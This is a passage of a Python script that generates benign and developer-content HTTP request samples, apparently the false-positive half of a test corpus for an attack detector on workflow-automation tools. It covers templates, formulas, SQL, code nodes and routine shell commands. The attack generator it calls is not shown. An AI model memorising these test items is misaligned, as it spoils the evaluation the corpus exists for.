    "{% for item in order.line_items %}- {{ item.quantity }} × {{ item.title }} ({{ item.price | money }})\n{% endfor %}",
    "{% if customer.tags contains 'VIP' %}Thanks for being a VIP ⭐{% else %}Thanks for shopping with us{% endif %}",
    "Hello {{name}}, {{#if overdue}}your invoice is {{days}} days overdue{{else}}thanks for paying on time{{/if}}.",
    "{{#each tasks}}• {{this.title}} — due {{this.due}}\n{{/each}}",
    "Dear {{{recipient.displayName}}}, please find attached the {{report}} for {{month}}.",
    "{{> header}}Your code is {{code}}. It expires in {{ttl}} minutes.{{> footer}}",
    "{{^items}}No new items today.{{/items}}{{#items}}* {{name}}{{/items}}",
    "Reminder: {{ event.title }} starts at {{ event.start | date: '%H:%M' }} in {{ event.location | default: 'Room 2' }}",
    "{{ 'now' | date: '%Y-%m-%d' }} daily digest: {{ stats.count }} new signups ({{ stats.delta | plus: 0 }}%)",
    "Hi ${firstName}, your ticket ${ticketId} was updated by ${agent}.",
    "Your booking on {{ booking.date | date: \"%A, %B %-d\" }} for {{ booking.guests }} guest{% if booking.guests > 1 %}s{% endif %} is confirmed.",
]


@benign_gen("notify_templates", 24)
def b_notify(r):
    t = r.choice(NOTIFY_TEMPLATES)
    c = r.randint(0, 2)
    if c == 0:
        return dict(method="PUT", host="n8n.acme.io", path="/rest/workflows/%d" % r.randint(1, 300),
                    body=js({"name": "Order shipped email", "nodes": [{"name": "Send Email", "type": "n8n-nodes-base.emailSend", "parameters": {
                        "toEmail": "={{ $json.email }}", "subject": "Your order is on its way", "text": t}}], "connections": {}}), browser=True)
    if c == 1:
        return dict(method="POST", host="notify.acme.io", path="/v1/templates", body=js({"name": "tpl-%d" % r.randint(1, 99), "engine": r.choice(["liquid", "handlebars", "mustache"]), "body": t}), browser=True)
    return dict(method="POST", host="notify.acme.io", path="/v1/templates/preview",
                body=q({"template": t, "engine": "liquid"}), ctype="application/x-www-form-urlencoded", browser=True)


@benign_gen("cron", 10)
def b_cron(r):
    cron = r.choice(["*/5 * * * *", "0 0 * * 1-5", "0 9 ? * MON-FRI", "@daily", "0 */2 * * *", "15 3 1,15 * *", "0 0 12 1/1 * ? *", "30 6 * * 1#1"])
    if r.random() < 0.5:
        return dict(method="GET", host="n8n.acme.io", path="/webhook/cron-preview", params={"expr": cron, "tz": "Europe/Berlin", "count": "5"}, browser=True)
    return dict(method="POST", host="scheduler.acme.io", path="/api/jobs", body=js({"name": "nightly-sync", "schedule": cron, "command": "sync", "args": ["--since", "24h"]}), browser=True)


@benign_gen("json_logic", 15)
def b_jsonlogic(r):
    rule = r.choice([{"and": [{"<": [{"var": "temp"}, 110]}, {"==": [{"var": "pie.filling"}, "apple"]}]},
                     {"if": [{">=": [{"var": "cart.total"}, 100]}, "free_shipping", {"in": [{"var": "user.country"}, ["IE", "GB"]]}, "flat_rate", "standard"]},
                     {"or": [{"==": [{"var": "role"}, "admin"]}, {"some": [{"var": "groups"}, {"==": [{"var": ""}, "ops"]}]}]},
                     {"!": {"missing": ["email", "name"]}},
                     {"all": [{"var": "items"}, {">": [{"var": "qty"}, 0]}]}])
    return dict(method="POST", host="rules.acme.io", path="/api/v1/rules/evaluate", body=js({"rule": rule, "data": {"temp": 100, "pie": {"filling": "apple"}, "cart": {"total": 120}}}))


@benign_gen("typeform_jotform", 16)
def b_forms(r):
    f, l, e = person(r)
    if r.random() < 0.5:
        return dict(method="POST", host="n8n.acme.io", path="/webhook/typeform-" + alnum(r, 6).lower(),
                    body=js({"event_id": alnum(r, 26), "event_type": "form_response",
                             "form_response": {"form_id": alnum(r, 8), "submitted_at": "2024-11-12T10:11:12Z",
                                               "answers": [{"type": "text", "text": f + " " + l, "field": {"ref": "name"}},
                                                           {"type": "email", "email": e, "field": {"ref": "email"}},
                                                           {"type": "long_text", "text": r.choice(["I'd love a feature where \"if X then Y\" rules can be nested (AND/OR).",
                                                                                                   "Select all that apply -> I picked 3; the form only saved 1?",
                                                                                                   "Rate: 9/10. Would be 10 if the <Export> button worked on mobile.",
                                                                                                   "We run ~200 workflows/day; cost is the main concern."]), "field": {"ref": "feedback"}},
                                                           {"type": "choice", "choice": {"label": "Other (please specify)"}, "field": {"ref": "source"}}]}}),
                    extra=[["Typeform-Signature", "sha256=" + alnum(r, 43) + "="]])
    raw = js({"q3_name": {"first": f, "last": l}, "q4_email": e, "q5_address": {"addr_line1": "Apt #4, 12 O'Connell St.", "city": r.choice(CITIES)}, "q6_comments": "Delivery between 9-5 only / ring twice"})
    return dict(method="POST", host="n8n.acme.io", path="/webhook/jotform",
                body=q({"formID": str(r.randint(10 ** 14, 10 ** 15)), "submissionID": str(r.randint(10 ** 17, 10 ** 18)), "formTitle": "Contact Us", "rawRequest": raw, "pretty": "Name:%s %s, E-mail:%s" % (f, l, e)}),
                ctype="application/x-www-form-urlencoded")


CHAT = ["can I book a table for 2 at 7pm?", "where is my order #48213?", "select the cheapest option please", "drop me at union station",
        "delete my last booking", "I want to update my address to 5 O'Brien Rd", "what's 20% of 150?", "show me flights from DUB -> JFK on 12/03",
        "cancel; actually no, keep it", "<3 thanks!!", "is the 'family' room available from fri to sun?", "run the script again pls",
        "how do I exec a refund?", "my password doesn't work :(", "who's on call tonight?", "ok and what about && the other thing",
        "set alarm for 6:30 & turn off lights", "cat ate my homework lol", "echo... is anyone there?", "table for 4, window seat if possible"]


@benign_gen("chatbots", 22)
def b_chat(r):
    m = r.choice(CHAT)
    if r.random() < 0.5:
        return dict(method="POST", host="bot.acme.io", path="/webhooks/rest/webhook", body=js({"sender": "user-" + hexid(r, 8), "message": m}))
    return dict(method="POST", host="fulfil.acme.io", path="/dialogflow/fulfillment",
                body=js({"responseId": uuid(r), "session": "projects/acme-bot/agent/sessions/" + uuid(r),
                         "queryResult": {"queryText": m, "parameters": {"date": "2024-12-03T12:00:00Z", "guests": r.randint(1, 8), "any": ""},
                                         "intent": {"name": "projects/acme-bot/agent/intents/" + uuid(r), "displayName": r.choice(["book.table", "order.status", "smalltalk"])},
                                         "languageCode": "en"}}), extra=[["Authorization", "Basic " + alnum(r, 28)]])


AIRTABLE_FORMULAS = ["AND({Status}='Done', IS_AFTER({Due}, TODAY()))", "OR(FIND('acme', LOWER({Email})), {Priority} > 2)",
                     "{Name} = 'O''Brien'", "NOT({Archived})", "SEARCH(\"urgent\", {Notes})",
                     "IF({Amount} >= 1000, 'big', 'small') = 'big'", "DATETIME_DIFF(NOW(), {Created}, 'days') < 30",
                     "AND({Region}='EMEA', {Stage}!='Closed Lost')", "RECORD_ID() = 'rec%s'"]


@benign_gen("airtable", 16)
def b_airtable(r):
    fm = r.choice(AIRTABLE_FORMULAS)
    if "%s" in fm:
        fm = fm % alnum(r, 14)
    if r.random() < 0.7:
        return dict(method="GET", host="api.airtable-proxy.acme.io", path="/v0/app%s/%s" % (alnum(r, 14), quote(r.choice(["Tasks", "Leads", "Order Lines"]))),
                    raw_query=q([("filterByFormula", fm), ("sort[0][field]", "Created"), ("sort[0][direction]", "desc"), ("pageSize", "50"), ("fields[]", "Name"), ("fields[]", "Status")]),
                    extra=[["Authorization", "Bearer pat" + alnum(r, 14) + "." + hexid(r, 64)]])
    return dict(method="PATCH", host="api.airtable-proxy.acme.io", path="/v0/app%s/Tasks" % alnum(r, 14),
                body=js({"records": [{"id": "rec" + alnum(r, 14), "fields": {"Status": "Done", "Notes": "Closed via n8n — see {{ticket}} #%d" % r.randint(1, 999)}}], "typecast": True}),
                extra=[["Authorization", "Bearer pat" + alnum(r, 14) + "." + hexid(r, 64)]])


@benign_gen("sheets", 15)
def b_sheets(r):
    rng = r.choice(["Sheet1!A1:C10", "'Order Log'!A:F", "Leads!A2:Z", "'Q4 2024'!B2:B100", "Summary!A1"])
    sid = alnum(r, 44)
    if r.random() < 0.5:
        return dict(method="GET", host="sheets.googleapis.com", path="/v4/spreadsheets/%s/values/%s" % (sid, quote(rng, safe="!:")),
                    params={"valueRenderOption": "FORMATTED_VALUE", "majorDimension": "ROWS"}, extra=[["Authorization", "Bearer ya29." + alnum(r, 60)]])
    f, l, e = person(r)
    vals = [[f + " " + l, e, r.choice(["=SUM(B2:B10)", "=VLOOKUP(A2,'Price List'!A:B,2,FALSE)", "=IF(C2>100,\"high\",\"low\")", "=TODAY()", "=HYPERLINK(\"https://acme.io/o/123\",\"open\")", "42.50"])]]
    return dict(method="POST", host="sheets.googleapis.com", path="/v4/spreadsheets/%s/values/%s:append" % (sid, quote(rng, safe="!:")),
                params={"valueInputOption": "USER_ENTERED", "insertDataOption": "INSERT_ROWS"},
                body=js({"range": rng, "majorDimension": "ROWS", "values": vals}), extra=[["Authorization", "Bearer ya29." + alnum(r, 60)]])


@benign_gen("http_request_node_urls", 15)
def b_urls(r):
    u = r.choice(["https://api.github.com/repos/n8n-io/n8n/releases?per_page=5", "https://hooks.slack.com/services/T0000/B0000/XXXXXXXX",
                  "https://api.openweathermap.org/data/2.5/weather?q=Dublin,IE&units=metric", "https://graph.microsoft.com/v1.0/me/messages?$filter=isRead eq false&$top=10",
                  "https://discord.com/api/webhooks/123456789/abcDEF", "https://example.org/feed.xml", "https://api.stripe.com/v1/charges?limit=3"])
    return dict(method="POST", host="n8n.acme.io", path="/rest/workflows/%d/run" % r.randint(1, 300),
                body=js({"workflowData": {"nodes": [{"name": "HTTP Request", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2,
                                                     "parameters": {"url": u, "method": "GET", "sendHeaders": True,
                                                                    "headerParameters": {"parameters": [{"name": "Accept", "value": "application/json"}]}}}]}}), browser=True)


@benign_gen("integration_webhooks", 20)
def b_integ(r):
    c = r.randint(0, 3)
    if c == 0:
        return dict(method="POST", host="n8n.acme.io", path="/webhook/github",
                    body=js({"ref": "refs/heads/main", "head_commit": {"message": r.choice(["fix: escape quotes in 'name' field", "feat(api): add ?filter= & ?sort= params", "chore: bump deps (#412)", "Revert \"drop legacy table\""]),
                                                                      "author": {"name": " ".join(person(r)[:2])}}, "repository": {"full_name": "acme/automations"}}),
                    extra=[["X-GitHub-Event", "push"], ["X-Hub-Signature-256", "sha256=" + hexid(r, 64)], ["X-GitHub-Delivery", uuid(r)]])
    if c == 1:
        return dict(method="POST", host="n8n.acme.io", path="/webhook/stripe",
                    body=js({"id": "evt_" + alnum(r, 24), "type": "invoice.paid", "data": {"object": {"id": "in_" + alnum(r, 24), "amount_paid": r.randint(100, 100000), "customer_email": person(r)[2],
                                                                                                          "description": "Pro plan (monthly) — 3 seats"}}}),
                    extra=[["Stripe-Signature", "t=%d,v1=%s" % (r.randint(1700000000, 1730000000), hexid(r, 64))]])
    if c == 2:
        return dict(method="POST", host="n8n.acme.io", path="/webhook/slack-cmd",
                    body=q({"token": alnum(r, 24), "team_id": "T" + alnum(r, 8).upper(), "command": "/deploy", "text": r.choice(["api --env=staging --tag v1.4.2", "status", "rollback web 2", "\"release notes\" please"]),
                            "user_name": "kim", "response_url": "https://hooks.slack.com/commands/T000/123/abc"}), ctype="application/x-www-form-urlencoded")
    return dict(method="POST", host="n8n.acme.io", path="/webhook/shopify-order",
                body=js({"id": r.randint(10 ** 12, 10 ** 13), "email": person(r)[2], "note": r.choice(["Gift wrap pls :)", "Leave at door #2", "", "Call if 'out of stock'"]),
                         "line_items": [{"title": "Socks (3-pack)", "quantity": 2, "price": "12.00"}], "shipping_address": {"address1": "Unit 4/12 Smith St", "city": r.choice(CITIES)}}),
                extra=[["X-Shopify-Topic", "orders/create"], ["X-Shopify-Hmac-Sha256", alnum(r, 43) + "="]])


@benign_gen("static_misc", 15)
def b_static(r):
    host, path = r.choice([("n8n.acme.io", "/assets/index-%s.js" % alnum(r, 8)), ("n8n.acme.io", "/healthz"), ("nodered.home.lan:1880", "/red/red.min.js"),
                           ("ha.home.example.com:8123", "/frontend_latest/app.%s.js" % hexid(r, 16)), ("airflow.internal.acme.io", "/static/dist/main.%s.css" % hexid(r, 20)),
                           ("retool.acme.io", "/api/user"), ("prefect.acme.io", "/api/health"), ("n8n.acme.io", "/metrics")])
    return dict(method="GET", host=host, path=path, browser=True)


def benign():
    out = []
    for name, n, fn in BENIGN:
        r = random.Random("benign-" + name)
        for i in range(1, n + 1):
            a = fn(r)
            rid = "%s/benign/%s-%03d" % (SET, name, i)
            out.append(mk(rid, "benign", "pass", a["method"], a["host"], a["path"], params=a.get("params"), raw_query=a.get("raw_query"),
                          body=a.get("body"), ctype=a.get("ctype"), extra=a.get("extra"), rng=r, browser=a.get("browser", False)))
    out += dev_content()
    return out


# ---------------------------------------------------------------------------
# dev-content
# ---------------------------------------------------------------------------

CODE_NODES = [
    "const out = [];\nfor (const item of $input.all()) {\n  const total = item.json.lines.reduce((s, l) => s + l.qty * l.price, 0);\n  out.push({ json: { id: item.json.id, total } });\n}\nreturn out;",
    "const crypto = require('crypto');\nreturn items.map(i => ({ json: { ...i.json, hash: crypto.createHash('sha256').update(i.json.email).digest('hex') } }));",
    "// Node-RED function node\nif (msg.payload.temp > 25) {\n  msg.payload = { state: 'on' };\n  return [msg, null];\n}\nreturn [null, msg];",
    "const rows = $input.first().json.data;\nreturn rows.filter(r => r.status !== 'deleted' && r.email.includes('@')).map(r => ({ json: r }));",
    "let html = `<table>${items.map(i => `<tr><td>${i.json.name}</td></tr>`).join('')}</table>`;\nreturn [{ json: { html } }];",
    "import json\nfrom datetime import datetime\nout = []\nfor item in _input.all():\n    d = item.json\n    d['processed_at'] = datetime.utcnow().isoformat()\n    out.append({'json': d})\nreturn out",
    "const { execSync } = require('child_process');\nconst out = execSync('git -C /data/repo log -1 --format=%H').toString().trim();\nreturn [{ json: { sha: out } }];",
    "const res = await this.helpers.httpRequest({ method: 'POST', url: 'https://api.acme.io/v1/sync', body: $json, json: true });\nreturn [{ json: res }];",
]
SQL_NODES = [
    "SELECT o.id, o.total, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.created_at > NOW() - INTERVAL '1 day' ORDER BY o.total DESC LIMIT 100;",
    "INSERT INTO sync_log (workflow, status, created_at) VALUES ('{{ $workflow.name }}', 'ok', NOW()) ON CONFLICT DO NOTHING;",
    "UPDATE tickets SET status = 'closed' WHERE id = $1 AND status <> 'closed' RETURNING id;",
    "SELECT date_trunc('week', created_at) AS wk, count(*) FROM signups GROUP BY 1 UNION ALL SELECT NULL, count(*) FROM signups;",
    "DELETE FROM sessions WHERE expires_at < now(); -- cleanup",
    "SELECT * FROM users WHERE email = {{ textInput1.value }} OR username = {{ textInput1.value }};",
]
CMDS = ["ls -la /data/exports | grep .csv", "cd /data/repo && git pull --rebase && npm ci", "tar -czf /backups/n8n-$(date +%F).tgz /home/node/.n8n",
        "curl -fsS https://api.acme.io/health || exit 1", "python3 /scripts/report.py --since '1 day ago' > /tmp/report.txt; cat /tmp/report.txt",
        "find /data/in -name '*.xml' -mtime +7 -delete"]
OTHER_DEV = [
    ("rules.acme.io", "/api/v1/rules", "rule \"VIP discount\"\nwhen\n    $o : Order( total > 100, customer.vip == true )\nthen\n    $o.setDiscount(0.1);\n    update($o);\nend", "text/plain"),
    ("airflow.internal.acme.io", "/api/v1/dags/upload", "from airflow import DAG\nfrom airflow.operators.bash import BashOperator\nfrom datetime import datetime\n\nwith DAG('etl_daily', start_date=datetime(2024,1,1), schedule='0 6 * * *') as dag:\n    BashOperator(task_id='run', bash_command='python /opt/etl.py --date {{ ds }} && rm -f /tmp/*.lock')\n", "text/x-python"),
    ("ha.home.example.com:8123", "/api/config/core/yaml", "shell_command:\n  restart_pi: ssh pi@192.168.1.20 'sudo systemctl restart kiosk'\ntemplate:\n  - sensor:\n      - name: Power\n        state: \"{{ states('sensor.p1') | float * 1000 }}\"\n", "application/x-yaml"),
    ("retool.acme.io", "/api/transformers", "// transformer\nconst data = {{ query1.data }};\nreturn data.filter(r => r.region === {{ select1.value }}).map(r => ({...r, total: r.qty * r.price}));", "text/plain"),
    ("appsmith.acme.io", "/api/v1/collections/actions", "export default {\n  async run() {\n    const r = await getOrders.run({ q: Input1.text });\n    storeValue('orders', r);\n    return r.filter(o => o.status !== 'void');\n  }\n}", "text/plain"),
]


def dev_content():
    out = []
    r = random.Random("dev-content")
    i = 0

    def add(gen, d):
        nonlocal i
        i += 1
        out.append(mk("%s/dev-content/%s-%03d" % (SET, gen, i), "dev-content", "pass", d["method"], d["host"], d["path"],
                      body=d.get("body"), ctype=d.get("ctype"), rng=r, browser=True))
    for k in range(14):
        code = CODE_NODES[k % len(CODE_NODES)]
        if k % 2 == 0:
            body = js({"name": "Transform orders", "nodes": [{"name": "Code", "type": "n8n-nodes-base.code", "typeVersion": 2,
                                                              "parameters": {"language": "python" if code.startswith("import") else "javaScript", "jsCode": code}}], "connections": {}})
            add("code_node", dict(method="PUT", host="n8n.acme.io", path="/rest/workflows/%d" % r.randint(1, 300), body=body))
        else:
            body = js([{"id": hexid(r, 16), "type": "function", "z": hexid(r, 16), "name": "logic", "func": code, "outputs": 2}])
            add("code_node", dict(method="POST", host="nodered.home.lan:1880", path="/flows", body=body))
    for k in range(12):
        sql = SQL_NODES[k % len(SQL_NODES)]
        if k % 2 == 0:
            body = js({"name": "DB sync", "nodes": [{"name": "Postgres", "type": "n8n-nodes-base.postgres", "parameters": {"operation": "executeQuery", "query": sql}}]})
            add("sql_node", dict(method="PUT", host="n8n.acme.io", path="/rest/workflows/%d" % r.randint(1, 300), body=body))
        else:
            body = js({"name": "query%d" % k, "actionConfiguration": {"body": sql, "pluginSpecifiedTemplates": [{"value": True}]}})
            add("sql_node", dict(method="PUT", host="appsmith.acme.io", path="/api/v1/actions/" + hexid(r), body=body))
    for k in range(8):
        body = js({"name": "Ops", "nodes": [{"name": "Execute Command", "type": "n8n-nodes-base.executeCommand", "parameters": {"command": CMDS[k % len(CMDS)]}}]})
        add("exec_node", dict(method="PUT", host="n8n.acme.io", path="/rest/workflows/%d" % r.randint(1, 300), body=body))
    for k in range(6):
        host, path, body, ct = OTHER_DEV[k % len(OTHER_DEV)]
        add("other", dict(method="POST", host=host, path=path, body=body, ctype=ct))
    return out


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write(__doc__.split("How to run")[1].split("Each output")[0])
        sys.exit(2)
    if sys.argv[1] == "stats":
        from collections import Counter
        a, b = attacks(), benign()
        sys.stderr.write("attacks %d %s\n" % (len(a), dict(Counter(x["category"] for x in a).most_common())))
        sys.stderr.write("benign %d %s\n" % (len(b), dict(Counter(x["category"] for x in b).most_common())))
        ids = [x["id"] for x in a + b]
        assert len(ids) == len(set(ids)), "duplicate ids"
        return
    for d in (attacks() if sys.argv[1] == "attacks" else benign()):
        sys.stdout.write(json.dumps(d, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
